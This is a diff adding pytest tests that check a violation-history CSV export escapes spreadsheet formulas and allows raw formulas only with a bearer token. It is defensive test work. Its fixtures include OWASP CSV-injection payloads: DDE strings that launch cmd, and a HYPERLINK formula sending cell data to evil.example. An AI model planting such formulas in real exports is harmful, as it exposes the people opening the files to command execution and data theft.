@@ -123,3 +123,102 @@ async def test_an_export_holds_no_database_connection_while_it_waits(pg, monkeyp
     assert await sync_to_async(in_use)() == before, "no connection held between batches"
     rest = [chunk async for chunk in chunks]
     assert b"".join(rest).count(b"\r\n") == 3
+
+
+# Cells a spreadsheet program would run as formulas (OWASP's CSV injection payloads).
+FORMULAS = [
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def hostile_rows(pg: Any) -> tuple[list[int], int]:
+    """A fire row per formula (in violation_image and zone, the fire table's own text
+    column), a row whose texts are numbers or plain, and a PPE row acknowledged by a
+    formula; all on 2025-04-01."""
+    fire = [
+        pg.execute(
+            "INSERT INTO violation_firedetections (camera_id, violation_date, violation_time,"
+            " violation_image, temperature, zone, tags) VALUES (-3, '2025-04-01', %s, %s, -3.5,"
+            " %s, ARRAY['=1+1'])"
+            " RETURNING id",
+            [f"10:00:0{n}", formula, formula],
+        ).fetchone()[0]
+        for n, formula in enumerate(FORMULAS)
+    ]
+    plain = insert(pg, "fire", "2025-04-01", "11:00", 4, temperature="-Infinity", zone="-3")
+    ppe = insert(pg, "ppe", "2025-04-01", "12:00", 5)
+    pg.execute(
+        "UPDATE violation_ppedetections SET violation_image = %s WHERE id = %s", [FORMULAS[2], ppe]
+    )
+    acknowledge(pg, "ppe", ppe, by="=cmd|' /C calc'!A0")
+    return fire, plain
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text(pg, historian, fire_kind) -> None:
+    fire, plain = hostile_rows(pg)
+    _, lines = read_csv(historian.get("/history/export.csv?from=2025-04-01&to=2025-04-01"))
+    by_id = {(line["kind"], int(line["id"])): line for line in lines}
+    for pk, formula in zip(fire, FORMULAS, strict=True):
+        line = by_id["fire", pk]
+        assert line["violation_image"] == "'" + formula, formula
+        assert line["zone"] == "'" + formula, formula
+        # A number is data, a negative one too: written as it is.
+        assert (line["camera_id"], line["temperature"]) == ("-3", "-3.5")
+        assert line["tags"] == '["=1+1"]', "an array is written as JSON: it starts with ["
+    line = by_id["fire", plain]
+    assert line["zone"] == "-3", "a text that is a plain number is written as it is"
+    assert line["temperature"] == "'-Infinity", "not a plain number: the database's word"
+    assert line["violation_image"] == "/media/fire-2025-04-01-11:00.jpg"
+    (ppe,) = [line for line in lines if line["kind"] == "ppe"]
+    assert ppe["violation_image"] == "'" + FORMULAS[2]
+    assert ppe["acknowledged_by"] == "'=cmd|' /C calc'!A0"
+
+
+def test_raw_formulas_are_for_programs_that_ask_with_a_token(
+    pg, historian, fire_kind, token
+) -> None:
+    fire, _ = hostile_rows(pg)
+    query = "/history/export.csv?from=2025-04-01&to=2025-04-01&formulas=raw"
+    _, lines = read_csv(Client().get(query, headers={"Authorization": f"Bearer {token}"}))
+    by_id = {int(line["id"]): line for line in lines if line["kind"] == "fire"}
+    for pk, formula in zip(fire, FORMULAS, strict=True):
+        assert (by_id[pk]["violation_image"], by_id[pk]["zone"]) == (formula, formula)
+    # A link can carry a session cookie or ?token=, never a header: no raw formulas for it.
+    for client, url in ((historian, query), (Client(), f"{query}&token={token}")):
+        refused = client.get(url)
+        assert refused.status_code == 400, url
+        assert b"formulas=raw needs a token in the Authorization header" in refused.content
+    _, lines = read_csv(historian.get(query.replace("=raw", "=escape")))
+    assert {line["zone"] for line in lines if line["kind"] == "fire"} >= {"'" + FORMULAS[0]}
+    bad = historian.get(query.replace("=raw", "=yes"))
+    assert (bad.status_code, bad.content) == (400, b"formulas must be escape or raw\n")
+
+
+def test_a_column_named_like_a_formula_is_a_text_header(pg, historian) -> None:
+    from realtime import kinds
+    from realtime.models import ViolationKind
+
+    pg.execute(
+        "CREATE TABLE violation_formuladetections (id bigserial PRIMARY KEY, camera_id int,"
+        ' violation_date date, violation_time time, violation_image text, "=1+2" text)'
+    )
+    try:
+        ViolationKind.objects.create(
+            slug="formula", label="F", schema_name="public",
+            table_name="violation_formuladetections", position=50,
+        )  # fmt: skip
+        kinds.forget()
+        pg.execute(
+            "INSERT INTO violation_formuladetections (camera_id, violation_date, violation_time,"
+            " violation_image, \"=1+2\") VALUES (1, '2025-04-01', '10:00', 'x.jpg', '@A1')"
+        )
+        header, lines = read_csv(historian.get("/history/export.csv?kind=formula"))
+        assert header[-1] == "'=1+2"
+        assert lines[0]["'=1+2"] == "'@A1"
+    finally:
+        pg.execute("DROP TABLE violation_formuladetections")
